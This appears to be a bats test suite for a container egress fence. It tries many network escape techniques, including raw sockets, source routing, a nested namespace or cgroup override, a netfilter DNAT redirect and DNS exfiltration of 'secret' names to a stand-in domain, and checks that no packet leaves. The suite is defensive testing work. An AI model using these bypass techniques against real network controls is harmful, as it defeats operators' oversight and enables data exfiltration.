@@ -1,0 +1,754 @@
+#!/usr/bin/env bats
+# shellcheck disable=SC2154,SC2016,SC2030,SC2031 # job sets output, stderr and status; single-quoted scripts for containers
+# The escape matrix: every known way around a fence, each with proof that no packet left, and with a twin that passes.
+# At the end it is printed: technique | result | how closed.
+
+load ../lib/ground
+load common
+load escapes
+
+# All rows of escape.py, in three containers: without a fence, with refused addresses, and with default deny.
+setup_file() {
+	escapes_setup_file || return
+	export R=$BATS_FILE_TMPDIR
+	policy blocklist <<-'POLICY'
+		default allow
+		pin-blocked no
+		block 198.51.100.0/24
+		block 2001:db8:51::/64
+		block 239.51.100.0/24
+		block ff0e::51:0/112
+		block 255.255.255.255
+	POLICY
+	policy allowlist <<-'POLICY'
+		default deny
+		on-leak all warn
+		allow 203.0.113.0/24
+		allow 2001:db8:80::/64
+		allow 239.0.113.0/24
+		allow ff0e::80:0/112
+		allow 192.0.2.0/24
+		allow 2001:db8:99::/64
+	POLICY
+	all_rows unfenced
+	all_rows blocklist -a deployfence.policy=blocklist
+	all_rows allowlist -a deployfence.policy=allowlist
+	find /etc/deployfence -type f ! -name default.policy -delete
+}
+
+# Rows only read what setup_file has recorded; a test with containers of its own begins with `begin`.
+setup() { :; }
+
+begin() {
+	begin_test
+	HAS_BEGUN=yes
+}
+
+teardown() {
+	stop_helper
+	[ -z "${HAS_BEGUN:-}" ] || end_test
+}
+
+all_rows() { # NAME [OPTION]…
+	local name=$1
+	shift
+	world_mark
+	rm -rf "$RUNDIR"
+	job "${PROBES[@]}" "$@" -- sh -c 'for kind in blocked allowed; do python3 /escape.py $kind; done'
+	echo "$output" >"$R/$name.results"
+	echo "$stderr" >"$R/$name.stderr"
+	left_packets >"$R/$name.packets" || true
+	expect_fence_gone
+	event_lines >"$R/$name.events" || true
+}
+
+teardown_file() {
+	matrix_print
+	world_down
+}
+
+# NAME of a row, of "blocked" or "allowed" destinations, in one of the containers: sets destination, result, packets.
+read_row() { # CONTAINER blocked|allowed NAME
+	local line
+	line=$(awk -F '\t' -v name="$3" '$1 == name' "$R/$1.results" | sed -n "$([ "$2" = blocked ] && echo 1p || echo 2p)")
+	IFS=$'\t' read -r _ destination result <<<"$line"
+	[ -n "$destination" ] || { echo "no result of $3 in $1:" && tail -n 5 "$R/$1.stderr" && return 1; }
+	packets=$(packets_to "$destination" "$R/$1.packets")
+}
+
+expect_row() { # RESULT-REGEX PACKETS(none|some) CONTAINER KIND NAME
+	local destination result packets
+	read_row "${@:3}"
+	[[ $result =~ ^($1)$ ]] || { echo "${*:3}: result is $result, not $1" && return 1; }
+	case $2 in
+	none) [ "$packets" = 0 ] ;;
+	some) [ "$packets" != 0 ] ;;
+	esac || { echo "${*:3}: $packets packets left for $destination" && return 1; }
+}
+
+# What said no, by the events of the destination.
+closed_by() { # CONTAINER NAME
+	local destination result packets what
+	read_row "$1" blocked "$2"
+	what=$(jq -rs --arg ip "$destination" '[.[] | select(.ip == $ip and .blocked == true) | .blockedAt] | unique | join("+")' \
+		"$R/$1.events")
+	echo "${what:-connect of a UDP socket}"
+}
+
+is_possible() { # NAME
+	local destination result packets
+	read_row unfenced blocked "$1"
+	[[ $result = unavailable* ]] || return 0
+	matrix "$1" "$result" "not on this kernel"
+	skip "${result#unavailable }: not on this kernel"
+}
+
+# Refused in both kinds of policy, at once and without a packet; without a fence the packet is seen, and what is allowed
+# passes in all of them.
+row() { # NAME [ERRNO-REGEX]
+	local destination result packets container
+	is_possible "$1"
+	matrix "$1" "FAILED" "-"
+	expect_row 'ok|sent|silence' some unfenced blocked "$1"
+	for container in blocklist allowlist; do
+		expect_row "${2:-EPERM}" none "$container" blocked "$1"
+		[ "${ROW_TWIN:-}" = no ] || expect_row 'ok|sent|silence' some "$container" allowed "$1"
+	done
+	read_row blocklist blocked "$1"
+	sed -i '$d' "$R/matrix"
+	matrix "$1" "$result, no packet" "$(closed_by blocklist "$1")"
+}
+
+# Raw sockets are refused whatever they are for.
+row_raw() { # NAME
+	local container
+	matrix "$1" "FAILED" "-"
+	expect_row 'ok|sent|silence' some unfenced blocked "$1"
+	for container in blocklist allowlist; do
+		expect_row EPERM none "$container" blocked "$1"
+		expect_row EPERM none "$container" allowed "$1"
+		jq -se 'any(.[]; .event == "socket_blocked" and .blocked)' "$R/$container.events"
+	done
+	sed -i '$d' "$R/matrix"
+	matrix "$1" "EPERM, no packet" "socket"
+}
+
+# What nobody needs is refused to every destination.
+row_nowhere() { # NAME
+	local container kind
+	is_possible "$1"
+	matrix "$1" "FAILED" "-"
+	expect_row 'ok|sent|silence' some unfenced blocked "$1"
+	for container in blocklist allowlist; do
+		for kind in blocked allowed; do expect_row 'EPERM|silence' none "$container" "$kind" "$1"; done
+	done
+	sed -i '$d' "$R/matrix"
+	matrix "$1" "no packet, to no destination" "packet"
+}
+
+# --- TCP
+
+@test "TCP: connect is refused at once, no packet" { row tcp; }
+@test "TCP over IPv6: connect is refused at once, no packet" { row tcp-ip6; }
+@test "TCP, IPv4-mapped: connect is refused at once, no packet" { row tcp-mapped; }
+@test "TCP Fast Open by sendto: refused at once, no SYN with data" { row tcp-fastopen-sendto; }
+@test "TCP Fast Open by connect: refused at once, no packet" { row tcp-fastopen-connect; }
+@test "MPTCP: connect is refused at once, no packet" { row mptcp; }
+@test "MPTCP over IPv6: connect is refused at once, no packet" { row mptcp-ip6; }
+@test "SCTP: refused, no packet" { row sctp; }
+@test "TCP, SO_BINDTODEVICE: connect is refused at once, no packet" { row tcp-bindtodevice; }
+@test "TCP, disconnected by AF_UNSPEC and connected anew: refused, no packet" { row tcp-unspec; }
+@test "TCP of an orphan: connect is refused at once, no packet" { row tcp-child; }
+
+# --- UDP
+
+@test "UDP: connect is refused at once, no packet" { row udp-connect; }
+@test "UDP over IPv6: connect is refused at once, no packet" { row udp-connect-ip6; }
+@test "UDP, IPv4-mapped: connect is refused at once, no packet" { row udp-connect-mapped; }
+@test "UDP: sendto is refused, no packet" { row udp-sendto; }
+@test "UDP over IPv6: sendto is refused, no packet" { row udp-sendto-ip6; }
+@test "UDP, IPv4-mapped: sendto is refused, no packet" { row udp-sendto-mapped; }
+@test "UDP, an IPv4 address for an IPv6 socket: sendto is refused, no packet" { row udp-sendto-inet-on-ip6; }
+@test "UDP, an address of family AF_UNSPEC: sendto is refused, no packet" { row udp-sendto-unspec; }
+@test "UDP: sendmsg is refused, no packet" { row udp-sendmsg; }
+@test "UDP: sendmmsg is refused for its second message, no packet" { row udp-sendmmsg; }
+@test "UDP, MSG_MORE: the first part is refused, no packet" { row udp-more; }
+@test "UDP GSO: sendto is refused, no packet" { row udp-gso; }
+@test "UDP in fragments: sendto is refused, no fragment" { row udp-large; }
+@test "UDP, IP_PKTINFO: sendmsg is refused, no packet" { row udp-pktinfo; }
+@test "UDP, IPV6_PKTINFO: sendmsg is refused, no packet" { row udp-pktinfo-ip6; }
+@test "UDP, IP_UNICAST_IF: sendto is refused, no packet" { row udp-unicast-if; }
+@test "UDP, IPV6_UNICAST_IF: sendto is refused, no packet" { row udp-unicast-if-ip6; }
+@test "UDP, SO_BINDTODEVICE: sendto is refused, no packet" { row udp-bindtodevice; }
+@test "UDP, disconnected by AF_UNSPEC: sendto is refused, no packet" { row udp-unspec; }
+@test "UDP, connected elsewhere and then here: refused, no packet" { row udp-reconnect; }
+@test "UDP, connected elsewhere: sendto with an address is refused, no packet" { row udp-sendto-on-connected; }
+@test "UDP-Lite: sendto is refused, no packet" { row udplite; }
+@test "UDP-Lite over IPv6: sendto is refused, no packet" { row udplite-ip6; }
+@test "multicast: sendto is refused, no packet" { row multicast; }
+@test "multicast over IPv6: sendto is refused, no packet" { row multicast-ip6; }
+@test "broadcast: sendto is refused, no packet" { ROW_TWIN=no row broadcast; }
+
+# --- io_uring
+
+@test "io_uring connect: refused at once, no packet" { row uring-connect; }
+@test "io_uring connect in a worker thread: refused at once, no packet" { row uring-connect-async; }
+@test "io_uring connect by the polling thread: refused at once, no packet" { row uring-connect-sqpoll; }
+@test "io_uring sendmsg: refused, no packet" { row uring-sendmsg; }
+@test "io_uring sendmsg in a worker thread: refused, no packet" { row uring-sendmsg-async; }
+@test "io_uring socket and connect: refused at once, no packet" { row uring-socket; }
+
+# --- IP headers of the application's own
+
+@test "source route by way of a refused address, TCP: no packet" { row_nowhere source-route-hop-tcp; }
+@test "source route by way of a refused address, UDP: refused, no packet" { row_nowhere source-route-hop-udp; }
+@test "source route of one message of a connected socket: refused, no packet" { row_nowhere source-route-message; }
+@test "source route with an end at an allowed address: refused, no packet" { row_nowhere source-route-end; }
+@test "IPv6 routing header 2 by way of a refused address: refused, no packet" { row_nowhere rthdr2-udp; }
+@test "IPv6 routing header 2 of one message of a connected socket: refused, no packet" { row_nowhere rthdr2-message; }
+@test "IPv6 segment routing by way of a refused address, TCP: dropped to every destination, no packet" { row_nowhere rthdr4-tcp; }
+@test "IPv6 segment routing by way of a refused address, UDP: refused to every destination, no packet" { row_nowhere rthdr4-udp; }
+@test "IPv6 destination options: refused to every destination, no packet" { row_nowhere destination-options; }
+@test "IPv6 hop-by-hop options: refused to every destination, no packet" { row_nowhere hop-options; }
+
+# --- ICMP and raw sockets
+
+@test "ping socket: sendto is refused, no packet" { row ping; }
+# the kernel tells nobody that an ICMPv6 packet was dropped
+@test "ping socket over IPv6: sendto is refused, no packet" { row ping-ip6 'EPERM|silence'; }
+@test "ping socket, connected: refused, no packet" { row ping-connect; }
+@test "raw ICMP: no socket, no packet" { row_raw raw-icmp; }
+@test "raw UDP: no socket, no packet" { row_raw raw-udp; }
+@test "raw UDP over IPv6: no socket, no packet" { row_raw raw-udp-ip6; }
+@test "IP_HDRINCL: no socket, no packet" { row_raw raw-header; }
+@test "IP_HDRINCL that says another destination than sendto: no socket, no packet" { row_raw raw-header-lies; }
+@test "IPV6_HDRINCL: no socket, no packet" { row_raw raw-header-ip6; }
+@test "a fragment without a first one: no socket, no packet" { row_raw raw-fragment; }
+@test "a TCP segment that is no SYN: no socket, no packet" { row_raw raw-tcp-ack; }
+@test "GRE: no socket, no packet" { row_raw raw-gre; }
+
+# --- what needs a container of its own
+
+# The result of a technique in a container: tried JOB-OPTION… -- COMMAND…
+tried() {
+	job "${PROBES[@]}" "$@"
+	expect [ "$status" = 0 ]
+}
+
+@test "an established connection that gets a source route: segments do not go to a refused address" {
+	begin
+	policy nets <<<'block 198.51.100.0/24'
+	matrix reroute FAILED -
+	tried -- python3 /escape.py reroute 203.0.113.10 198.51.100.9
+	expect_packet 198.51.100.9 # without a fence
+	world_mark
+	tried -a deployfence.policy=nets -- python3 /escape.py reroute 203.0.113.10 198.51.100.9
+	expect_no_packet 198.51.100.9
+	expect_packet 203.0.113.10
+	sed -i '$d' "$R/matrix"
+	matrix reroute "no packet" packet
+}
+
+@test "NAT64: an address is refused by the one that is in it" {
+	begin
+	policy nets <<<'block 198.51.100.0/24'
+	matrix nat64 FAILED -
+	tried -a deployfence.policy=nets -- sh -c 'for address in 64:ff9b::198.51.100.9 64:ff9b::203.0.113.10; do
+		python3 /escape.py at $address tcp-ip6 udp-sendto-ip6; done'
+	expect [ "$(grep -c EPERM <<<"$output")" = 2 ]
+	expect [ "$(grep -c ok <<<"$output")" = 2 ]
+	expect_no_packet 64:ff9b::c633:6409
+	expect_packet 64:ff9b::cb00:710a
+	sed -i '$d' "$R/matrix"
+	matrix nat64 "EPERM, no packet" connect
+}
+
+@test "MPTCP subflow to an address that the peer announces: no packet" {
+	begin
+	command -v nsenter >/dev/null && ip mptcp limits show >/dev/null 2>&1 || skip "no MPTCP here"
+	policy nets <<<'block 198.51.100.0/24'
+	matrix mptcp-subflow FAILED -
+	nsenter --net=/run/netns/world /usr/bin/python3 -c '
+import socket, threading
+server = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
+server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+server.bind(("", 9998))
+server.listen()
+def echo(client):
+    with client:
+        while data := client.recv(99):
+            client.sendall(data)
+while True:
+    threading.Thread(target=echo, args=server.accept()[:1], daemon=True).start()
+' 3>&- 4>&- &
+	# shellcheck disable=SC2034 # for stop_helper
+	HELPER=$!
+	ip -n world mptcp endpoint add 198.51.100.9 signal
+	local fence
+	for fence in off on; do
+		world_mark
+		job_start "${PROBES[@]}" -a "deployfence=$fence" -a deployfence.policy=nets -- sleep 1000
+		expect [ "$status" = 0 ]
+		nsenter --net="/proc/$(job_pid "$JOB")/ns/net" ip mptcp limits set add_addr_accepted 4 subflows 4
+		job_exec "$JOB" python3 -c '
+import socket, time
+sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
+sock.settimeout(5)
+sock.connect(("203.0.113.10", 9998))
+for _ in range(5):
+    sock.sendall(b"x")
+    sock.recv(9)
+    time.sleep(0.1)
+print("ok")'
+		expect [ "$output" = ok ]
+		if [ $fence = off ]; then expect_packet 198.51.100.9; else expect_no_packet 198.51.100.9; fi
+		expect_packet 203.0.113.10
+		job_stop "$JOB"
+	done
+	ip -n world mptcp endpoint flush
+	stop_helper
+	sed -i '$d' "$R/matrix"
+	matrix mptcp-subflow "no packet" connect
+}
+
+@test "a nested network namespace with a way out: refused addresses and names stay refused" {
+	begin
+	local pid
+	policy nets <<-'POLICY'
+		pin-blocked no
+		block github.com
+		block 198.51.100.0/24
+	POLICY
+	matrix nested-netns FAILED -
+	job_start "${PROBES[@]}" -c SYS_ADMIN -a deployfence.policy=nets -- unshare -n sleep 1000
+	expect [ "$status" = 0 ]
+	pid=$(job_pid "$JOB")
+	# as an engine in the container would do it
+	ip link add nested0 type veth peer name eth0 netns "/proc/$pid/ns/net"
+	ip link set nested0 name vethnested
+	ip addr add 10.91.0.1/24 dev vethnested
+	ip link set vethnested up
+	nsenter --net="/proc/$pid/ns/net" sh -c 'ip link set lo up; ip addr add 10.91.0.2/24 dev eth0; ip link set eth0 up
+		ip route add default via 10.91.0.1'
+	ip -n world route replace 10.91.0.0/24 via 10.89.53.254
+	world_mark
+	job_exec "$JOB" nsenter --net=/proc/1/ns/net sh -c '
+		python3 /escape.py at 198.51.100.9 tcp udp-sendto; python3 /escape.py at 203.0.113.10 tcp udp-sendto
+		dig +tries=1 +time=1 @10.89.53.1 github.com; dig +tries=1 +time=1 +tcp @10.89.53.1 github.com'
+	expect [ "$(grep -c $'198.51.100.9\tEPERM' <<<"$output")" = 2 ]
+	expect [ "$(grep -c $'203.0.113.10\tok' <<<"$output")" = 2 ]
+	refute_match "$output" '140\.82\.112\.3'
+	expect_no_packet 198.51.100.9
+	expect_packet 203.0.113.10
+	expect [ "$(near_packets '#53 ')" = "" ]
+	expect_event '.reason == "NestedNamespace" and .blocked'
+	job_stop "$JOB"
+	ip link del vethnested 2>/dev/null || true
+	ip -n world route del 10.91.0.0/24
+	sed -i '$d' "$R/matrix"
+	matrix nested-netns "EPERM, no packet" connect
+}
+
+@test "a nested user and network namespace: nothing leaves it" {
+	begin
+	matrix nested-userns FAILED -
+	tried -a deployfence=on -- sh -c 'unshare -Urn sh -c "ip link set lo up; python3 /escape.py at 203.0.113.10 tcp udp-sendto
+		dig +tries=1 +time=1 @10.89.53.1 ok.example"; true'
+	refute_match "$output" $'\tok|203\.0\.113\.10$'
+	expect_no_packet 203.0.113.10
+	sed -i '$d' "$R/matrix"
+	matrix nested-userns "no packet" "no route, connect"
+}
+
+@test "a nested cgroup with a program that allows: ours still refuses" {
+	begin
+	local cgroup pid
+	policy nets <<<'block 198.51.100.0/24'
+	matrix nested-cgroup FAILED -
+	printf '%s\n' '#include <linux/bpf.h>' '__attribute__((section("cgroup/connect4"), used))' \
+		'int allow(struct bpf_sock_addr *ctx) { return 1; }' >"$DF_HOST/allow.c"
+	clang -O2 -target bpf -I"/usr/include/$(uname -m)-linux-gnu" -c -o "$DF_HOST/allow.o" "$DF_HOST/allow.c"
+	job_start "${PROBES[@]}" -a deployfence.policy=nets -- sh -c 'until [ -e /go ]; do sleep 0.05; done
+		for address in 198.51.100.9 203.0.113.10; do python3 /escape.py at $address tcp; done; sleep 1000'
+	cgroup=$(job_cgroup "$JOB")
+	pid=$(job_pid "$JOB")
+	mkdir "$cgroup/nested"
+	bpftool prog load "$DF_HOST/allow.o" /sys/fs/bpf/allow
+	bpftool cgroup attach "$cgroup/nested" connect4 pinned /sys/fs/bpf/allow multi
+	rm /sys/fs/bpf/allow
+	echo "$pid" >"$cgroup/nested/cgroup.procs"
+	job_exec "$JOB" touch /go
+	eventually is_logged $'203\.0\.113\.10\tok' >/dev/null
+	expect_match "$(job_logs "$JOB")" $'198.51.100.9\tEPERM'
+	expect_no_packet 198.51.100.9
+	expect_packet 203.0.113.10
+	job_stop "$JOB"
+	sed -i '$d' "$R/matrix"
+	matrix nested-cgroup "EPERM, no packet" connect
+}
+
+is_logged() { # REGEX
+	[[ $(job_logs "$JOB") =~ $1 ]]
+}
+
+# --- what cannot be closed is refused or found: the container does not start under default deny, and a warning tells
+
+# TECHNIQUE FINDING JOB-OPTION…
+expect_found() {
+	local technique=$1 finding=$2
+	shift 2
+	expect_event ".event == \"finding\" and .finding == \"$finding\""
+	printf 'default deny\n' | policy strict
+	job "$@" -a deployfence.policy=strict -- echo ran
+	expect [ "$status" = 126 ]
+	expect [ "$output" = "" ]
+	expect_match "$stderr" 'refused: finding '
+	sed -i '$d' "$R/matrix"
+	matrix "$technique" "$RESULT" "finding $finding: warned of, or not started"
+}
+
+@test "AF_PACKET: refused by the kernel, or the capability is a finding" {
+	begin
+	policy nets <<<'block 198.51.100.0/24'
+	matrix af-packet FAILED -
+	tried -a deployfence.policy=nets -- sh -c 'curl -s -o /dev/null http://203.0.113.10; python3 /escape.py packet 198.51.100.9'
+	if [[ $output = *EPERM* ]]; then
+		expect_no_packet 198.51.100.9
+		RESULT="EPERM, no packet"
+	else
+		expect_packet 198.51.100.9
+		RESULT="open with CAP_NET_RAW"
+	fi
+	expect_found af-packet cap-net-raw -c NET_RAW
+	job -a deployfence.policy=nets -v "$E2E/escape.py:/escape.py:ro" -- python3 /escape.py packet 198.51.100.9
+	expect_match "$output" EPERM # podman gives no such capability of itself
+}
+
+@test "AF_XDP: refused by the kernel, or the capability is a finding" {
+	begin
+	policy nets <<<'block 198.51.100.0/24'
+	matrix af-xdp FAILED -
+	tried -a deployfence.policy=nets -- python3 /escape.py family 44 3
+	RESULT="open with CAP_NET_RAW"
+	[[ $output != *EPERM* ]] || RESULT="EPERM"
+	expect_found af-xdp cap-net-raw -c NET_RAW
+	job -a deployfence.policy=nets -v "$E2E/escape.py:/escape.py:ro" -- python3 /escape.py family 44 3
+	expect_match "$output" EPERM
+}
+
+# Runs a command with a TCP socket of the host's as descriptor 3, and nothing else of bats.
+with_socket() {
+	/usr/bin/python3 -c '
+import os, socket, sys
+os.closerange(3, 100)
+os.set_inheritable(socket.socket().detach(), True)
+os.execvp(sys.argv[1], sys.argv[1:])' "$@" </dev/null
+}
+
+@test "a descriptor from outside: its socket is nobody's here, which is a finding" {
+	begin
+	policy nets <<<'block 198.51.100.0/24'
+	matrix inherited-fd FAILED -
+	status=0
+	with_socket podman run --rm --preserve-fds=1 --annotation deployfence.policy=nets -v "$E2E/escape.py:/escape.py:ro" \
+		"$DF_IMAGE" python3 /escape.py passed 3 198.51.100.9 >"$BATS_TEST_TMPDIR/passed" 2>&1 || status=$?
+	cat "$BATS_TEST_TMPDIR/passed"
+	expect [ "$status" = 0 ]
+	grep 'passed ok' "$BATS_TEST_TMPDIR/passed"
+	world_packets ' 198\.51\.100\.9#9999 '
+	expect_event '.event == "finding" and .finding == "passed-fds"'
+	RESULT="open"
+	printf 'default deny\n' | policy strict
+	status=0
+	with_socket podman run --rm --preserve-fds=1 --annotation deployfence.policy=strict "$DF_IMAGE" echo ran \
+		>"$BATS_TEST_TMPDIR/passed" 2>&1 || status=$?
+	expect [ "$status" = 126 ]
+	grep 'refused: finding passed-fds: ' "$BATS_TEST_TMPDIR/passed"
+	sed -i '$d' "$R/matrix"
+	matrix inherited-fd open "finding passed-fds: warned of, or not started"
+}
+
+@test "a socket that somebody outside hands over (SCM_RIGHTS): not contained, and the manual says so" {
+	begin
+	policy nets <<<'block 198.51.100.0/24'
+	matrix scm-rights FAILED -
+	hand_sockets "$DF_HOST/helper.socket"
+	tried -a deployfence.policy=nets -v "$DF_HOST/helper.socket:/helper.socket" -- sh -c '
+		python3 /escape.py handed /helper.socket 198.51.100.9; python3 /escape.py at 198.51.100.9 tcp'
+	stop_helper
+	expect_match "$output" 'handed ok'
+	expect_match "$output" $'tcp\t198.51.100.9\tEPERM' # a socket of its own
+	world_packets ' 198\.51\.100\.9#9999 '
+	man -l "$E2E/../../docs/man/deployfence-hook.8" 2>/dev/null | col -b | grep -q 'SCM_RIGHTS' ||
+		grep -q SCM_RIGHTS "$E2E/../../docs/man/deployfence-hook.8"
+	sed -i '$d' "$R/matrix"
+	matrix scm-rights open "documented: no sockets from outside"
+}
+
+@test "AF_VSOCK: refused by the kernel, or documented" {
+	begin
+	policy nets <<<'block 198.51.100.0/24'
+	matrix af-vsock FAILED -
+	tried -a deployfence.policy=nets -- python3 /escape.py family 40 1
+	if [[ $output = *EPERM* ]]; then
+		RESULT=EPERM
+	else
+		RESULT="open where the host has it"
+		grep -qi vsock "$E2E/../../docs/man/deployfence-hook.8"
+	fi
+	sed -i '$d' "$R/matrix"
+	matrix af-vsock "$RESULT" "lsm_cgroup, or documented"
+}
+
+@test "netfilter in the container (CAP_NET_ADMIN): what was allowed is led elsewhere, which is a finding" {
+	begin
+	policy nets <<<'block 198.51.100.0/24'
+	matrix dnat FAILED -
+	job_start "${PROBES[@]}" -c NET_ADMIN -a deployfence.policy=nets -- sleep 1000
+	expect [ "$status" = 0 ]
+	nsenter --net="/proc/$(job_pid "$JOB")/ns/net" nft -f - <<-'NFT'
+		table ip nat {
+			chain output {
+				type nat hook output priority -100;
+				ip daddr 203.0.113.77 dnat to 198.51.100.9
+			}
+		}
+	NFT
+	job_exec "$JOB" sh -c 'python3 /escape.py at 203.0.113.77 tcp; python3 /escape.py at 198.51.100.9 tcp'
+	expect_match "$output" $'tcp\t198.51.100.9\tEPERM'
+	RESULT="closed"
+	[ -z "$(left_packets ' 198\.51\.100\.9#')" ] || RESULT="open with CAP_NET_ADMIN"
+	expect_found dnat cap-net-admin -c NET_ADMIN
+}
+
+@test "a tun device: a finding" {
+	begin
+	matrix tun FAILED -
+	[ -c /dev/net/tun ] || skip "no /dev/net/tun here"
+	tried -a deployfence=on -c NET_ADMIN -o --device=/dev/net/tun -- echo ran
+	RESULT="open"
+	expect_found tun tun-device -c NET_ADMIN -o --device=/dev/net/tun
+}
+
+@test "the socket of a container engine: a finding" {
+	begin
+	matrix engine-socket FAILED -
+	mkdir -p /run/podman
+	hand_sockets /run/podman/podman.sock
+	tried -a deployfence=on -v /run/podman/podman.sock:/run/podman/podman.sock -- echo ran
+	RESULT="open"
+	expect_found engine-socket engine-socket -v /run/podman/podman.sock:/run/podman/podman.sock
+	stop_helper
+	rm -r /run/podman
+}
+
+# --- names
+
+@test "raw IP, /etc/hosts and an address from elsewhere: a blocked name's address is refused" {
+	begin
+	matrix raw-ip FAILED -
+	policy_pinned names
+	start_pinned 140.82.112.3 -a deployfence.policy=names -o --add-host=github.com:140.82.112.3 -o --add-host=ok.example:203.0.113.10
+	job_exec "$JOB" sh -c 'for url in http://140.82.112.3 http://github.com http://ok.example \
+		"--resolve any.example:80:140.82.112.3 http://any.example" "--connect-to ::140.82.112.3: http://203.0.113.10"
+		do curl -sS -m 10 $url; echo "$url rc=$?"; done'
+	expect_match "$output" 'http://140\.82\.112\.3 rc=7'
+	expect_match "$output" 'http://github\.com rc=7'
+	expect_match "$output" 'any\.example rc=7'
+	expect_match "$output" 'http://203\.0\.113\.10 rc=7'
+	expect_match "$output" 'http://ok\.example rc=0'
+	expect_no_packet 140.82.112.3
+	expect_packet 203.0.113.10
+	sed -i '$d' "$R/matrix"
+	matrix raw-ip "EPERM, no packet" "connect (pin-blocked)"
+}
+
+# Blocks github.com and looks its addresses up.
+policy_pinned() { # NAME [STATEMENT]…
+	local name=$1
+	shift
+	printf '%s\n' "$@" 'block github.com' | policy "$name"
+}
+
+@test "raw-ip block: an address that no answer named is refused" {
+	begin
+	matrix raw-ip-block FAILED -
+	policy_pinned names 'raw-ip block' 'pin-blocked no'
+	tried -a deployfence.policy=names -- sh -c 'curl -sS -m 10 http://203.0.113.11; echo "raw rc=$?"
+		curl -sS -m 10 http://ok.example; echo "name rc=$?"; curl -sS -m 10 http://203.0.113.10; echo "learned rc=$?"'
+	expect_match "$output" 'raw rc=7'
+	expect_match "$output" 'name rc=0'
+	expect_match "$output" 'learned rc=0'
+	expect_no_packet 203.0.113.11
+	sed -i '$d' "$R/matrix"
+	matrix raw-ip-block "EPERM, no packet" connect
+}
+
+@test "DNS over TCP, another resolver, a resolver on loopback: the question is judged all the same" {
+	begin
+	matrix other-resolver FAILED -
+	policy_pinned names
+	start_pinned 140.82.112.3 -a deployfence.policy=names
+	job_exec "$JOB" sh -c 'for how in "@10.89.53.2" "+tcp" "+tcp @203.0.113.77" "@203.0.113.77" "@fd00:53::1" "+tcp @2001:db8::53"
+		do echo "$how: $(dig +tries=1 +time=3 +short $how github.com | grep -v "^;") $(dig +tries=1 +time=3 +short $how ok.example | grep -v "^;")"; done'
+	expect [ "$(grep -c ':  203\.0\.113\.10$' <<<"$output")" = 6 ]
+	run near_packets '676974687562' # "github" in a packet
+	expect [ "$output" = "" ]
+	sed -i '$d' "$R/matrix"
+	matrix other-resolver "NXDOMAIN, no packet with the name" "redirect of port 53"
+}
+
+@test "DNS over HTTPS in blocklist mode: what it answers is refused at connect" {
+	begin
+	matrix doh FAILED -
+	policy_pinned names
+	start_pinned 140.82.112.3 -a deployfence.policy=names
+	job_exec "$JOB" sh -c 'for url in http://github.com http://ok.example; do
+		curl -sS -m 10 --cacert /etc/ca.pem --doh-url https://other.example/dns-query $url; echo "$url rc=$?"; done'
+	expect_match "$output" 'http://github\.com rc=7'
+	expect_match "$output" 'http://ok\.example rc=0'
+	expect_no_packet 140.82.112.3
+	expect_packet 203.0.113.10
+	world_web_log ' DOH '
+	sed -i '$d' "$R/matrix"
+	matrix doh "EPERM at what it answers" "connect (pin-blocked)"
+}
+
+@test "default deny: DNS over HTTPS and TLS, a resolver on an odd port, no packet" {
+	begin
+	matrix doh-deny FAILED -
+	printf '%s\n' 'default deny' 'on-leak all warn' 'allow ok.example' | policy deny
+	tried -a deployfence.policy=deny -- sh -c '
+		curl -sS -m 10 --cacert /etc/ca.pem --doh-url https://other.example/dns-query http://github.com; echo "doh name rc=$?"
+		curl -sS -m 10 --cacert /etc/ca.pem --doh-url https://203.0.113.11/dns-query http://github.com; echo "doh address rc=$?"
+		python3 /escape.py at 203.0.113.11 tcp udp-sendto; dig +tries=1 +time=1 -p 853 +tcp @203.0.113.11 github.com; echo "odd rc=$?"
+		dig +tries=1 +time=1 -p 5353 @203.0.113.11 github.com; echo "odd rc=$?"
+		curl -sS -m 10 http://ok.example; echo "ok rc=$?"'
+	expect_match "$output" 'doh name rc=6'
+	expect_match "$output" 'doh address rc=(6|7)'
+	expect [ "$(grep -c 'odd rc=0' <<<"$output")" = 0 ]
+	expect_match "$output" 'ok rc=0'
+	expect_no_packet 203.0.113.11
+	expect_packet 203.0.113.10
+	sed -i '$d' "$R/matrix"
+	matrix doh-deny "EPERM, no packet" "names and connect"
+}
+
+@test "default deny: names that carry data reach no resolver" {
+	begin
+	matrix dns-exfiltration FAILED -
+	printf '%s\n' 'default deny' 'on-leak all warn' 'allow ok.example' | policy deny
+	tried -a deployfence.policy=deny -- sh -c 'for i in 1 2 3 4 5; do
+		getent hosts secret$i.leak.example; dig +tries=1 +short secret$i.leak.example TXT; dig +tries=1 +tcp secret$i.leak.example
+		dig +tries=1 @203.0.113.77 secret$i.leak.example; mclient-musl secret$i.leak.example; done
+		dig +short ok.example'
+	expect_match "$output" '203\.0\.113\.10$'
+	run near_packets "$(printf leak | od -An -tx1 | tr -d ' \n')"
+	expect [ "$output" = "" ]
+	refute world_dns_log leak
+	world_dns_log ' ok\.example '
+	sed -i '$d' "$R/matrix"
+	matrix dns-exfiltration "NXDOMAIN, no packet" "names"
+}
+
+@test "an HTTP proxy: CONNECT and absolute-form targets of blocked names end at once and never leave" {
+	begin
+	matrix http-proxy FAILED -
+	policy_pinned names
+	start_pinned 140.82.112.3 -a deployfence.policy=names -e no_proxy=
+	job_exec "$JOB" sh -c 'for options in "http://HOST" "-p http://HOST:9999" "https://HOST --cacert /etc/ca.pem"; do
+		for host in github.com ok.example; do
+			curl -sS -m 10 -x http://203.0.113.5:3128 $(echo "$options" | sed "s/HOST/$host/"); echo "$host rc=$?"; done; done'
+	expect [ "$(grep -c 'github.com rc=56' <<<"$output")" = 3 ]
+	expect_match "$output" 'ok\.example rc=0.*ok\.example rc=[0-9]+.*ok\.example rc=0'
+	run near_packets '676974687562'
+	expect [ "$output" = "" ]
+	expect_packet 203.0.113.5
+	expect_event '.event == "proxy_blocked" and .domain == "github.com."'
+	sed -i '$d' "$R/matrix"
+	matrix http-proxy "reset, no packet with the name" "payload"
+}
+
+@test "an HTTP proxy: a second request of a connection, several in one segment, a name in pieces" {
+	begin
+	matrix http-proxy-later FAILED -
+	policy_pinned names
+	start_pinned 140.82.112.3 -a deployfence.policy=names
+	job_exec "$JOB" sh -c '
+		curl -sS -m 10 -x http://203.0.113.5:3128 http://ok.example http://github.com; echo "second rc=$?"
+		python3 /escape.py pieces 203.0.113.5 3128 "GET http://ok.example/ HTTP/1.1\r\nHost: ok.example\r\n\r\nGET http://github.com/ HTTP/1.1\r\nHost: github.com\r\n\r\n"
